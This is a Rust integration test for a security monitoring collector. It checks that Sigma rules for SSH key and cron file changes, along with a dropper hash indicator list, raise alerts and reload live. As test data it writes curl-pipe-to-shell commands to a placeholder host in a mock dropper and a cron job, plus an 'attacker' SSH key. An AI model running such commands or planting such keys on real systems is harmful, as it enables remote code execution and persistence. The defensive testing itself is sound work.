//! Sigma rules from the collector's rule folders fire on agents' events and become
//! alerts carrying the rule's author; folders are reloaded without a restart, and a
//! broken file leaves the previous version in force.

use std::time::Duration;

use vigie_tests::{wait_for, Stack};

const SSH_KEYS: &str = r#"
title: SSH authorized keys changed
title_fr: Clés SSH autorisées modifiées
id: 6d3b8a9e-1f4c-4c2a-9e7d-0b5a2c3d4e5f
author: Vigie tests
level: critical
tags: [attack.persistence, attack.t1098.004]
logsource: {product: linux, category: file_event}
detection:
    selection:
        TargetFilename|endswith: '/.ssh/authorized_keys'
    condition: selection
"#;

const CRON: &str = r#"
title: Cron file written
id: 0c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f
author: Vigie tests
level: high
logsource: {category: file_event}
detection:
    selection:
        TargetFilename|contains: '/cron'
    condition: selection
"#;

#[tokio::test(flavor = "multi_thread")]
async fn rule_folder_rules_fire_and_reload_live() {
    let rules = tempfile::tempdir().unwrap();
    std::fs::write(rules.path().join("ssh.yml"), SSH_KEYS).unwrap();
    std::fs::write(rules.path().join("broken.yml"), "title: [unclosed\n").unwrap();
    let dropper = b"#!/bin/sh\n# known dropper\ncurl http://198.51.100.7/x | sh\n";
    std::fs::write(
        rules.path().join("dropper-hashes.ioc"),
        format!(
            "# hashes of known droppers\n{}\n",
            vigie_model::hex::sha256(dropper)
        ),
    )
    .unwrap();
    let stack = Stack::start(&format!("rules_dirs = [\"{}\"]\n", rules.path().display())).await;
    let watched = stack.path("watched");
    std::fs::create_dir_all(watched.join(".ssh")).unwrap();
    let config = stack.agent_config("agent", &watched, "", "").await;
    let _agent = stack.start_agent("agent", &config).await;
    let log = std::fs::read_to_string(stack.path("collector.log")).unwrap();
    assert!(
        log.contains("broken.yml"),
        "the broken file is reported: {log}"
    );

    std::fs::write(
        watched.join(".ssh/authorized_keys"),
        "ssh-ed25519 AAAA attacker",
    )
    .unwrap();
    let (severity, author, title_fr): (String, String, String) = wait_for("the Sigma alert", Duration::from_secs(30), || async {
        stack
            .client
            .query("SELECT severity, author, rule_title_fr FROM alerts WHERE rule_id = '6d3b8a9e-1f4c-4c2a-9e7d-0b5a2c3d4e5f'")
            .fetch_optional::<(String, String, String)>()
            .await
            .unwrap()
    })
    .await;
    assert_eq!(
        (severity.as_str(), author.as_str()),
        ("critical", "Vigie tests")
    );
    assert_eq!(title_fr, "Clés SSH autorisées modifiées");

    // A file whose hash is on an indicator list raises an alert naming list and hash.
    std::fs::write(watched.join("update.sh"), dropper).unwrap();
    let summary: String = wait_for("the indicator alert", Duration::from_secs(30), || async {
        stack
            .client
            .query("SELECT summary FROM alerts WHERE rule_id = 'ioc:dropper-hashes'")
            .fetch_optional::<String>()
            .await
            .unwrap()
    })
    .await;
    assert!(
        summary.contains(&vigie_model::hex::sha256(dropper)) && summary.contains("dropper-hashes"),
        "{summary}"
    );

    // A new rule file takes effect without a restart.
    std::fs::write(rules.path().join("cron.yml"), CRON).unwrap();
    vigie_tests::wait_for_log(
        &stack.path("collector.log"),
        "from_folders=2",
        Duration::from_secs(20),
    )
    .await;
    std::fs::create_dir_all(watched.join("cron.d")).unwrap();
    std::fs::write(watched.join("cron.d/job"), "* * * * * root curl x | sh").unwrap();
    wait_for("the new rule's alert", Duration::from_secs(30), || async {
        let n = stack
            .count(
                "SELECT count() FROM alerts WHERE rule_id = '0c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f'",
            )
            .await;
        (n == 1).then_some(())
    })
    .await;

    // Breaking a loaded file keeps its previous version in force.
    std::fs::write(
        rules.path().join("ssh.yml"),
        SSH_KEYS.replace("condition: selection", "condition: selectio"),
    )
    .unwrap();
    vigie_tests::wait_for_log(
        &stack.path("collector.log"),
        "selectio",
        Duration::from_secs(20),
    )
    .await;
    std::fs::write(
        watched.join(".ssh/authorized_keys"),
        "ssh-ed25519 AAAA attacker2",
    )
    .unwrap();
    wait_for("the rule still in force", Duration::from_secs(30), || async {
        let n = stack.count("SELECT count() FROM alerts WHERE rule_id = '6d3b8a9e-1f4c-4c2a-9e7d-0b5a2c3d4e5f'").await;
        (n == 2).then_some(())
    })
    .await;
}
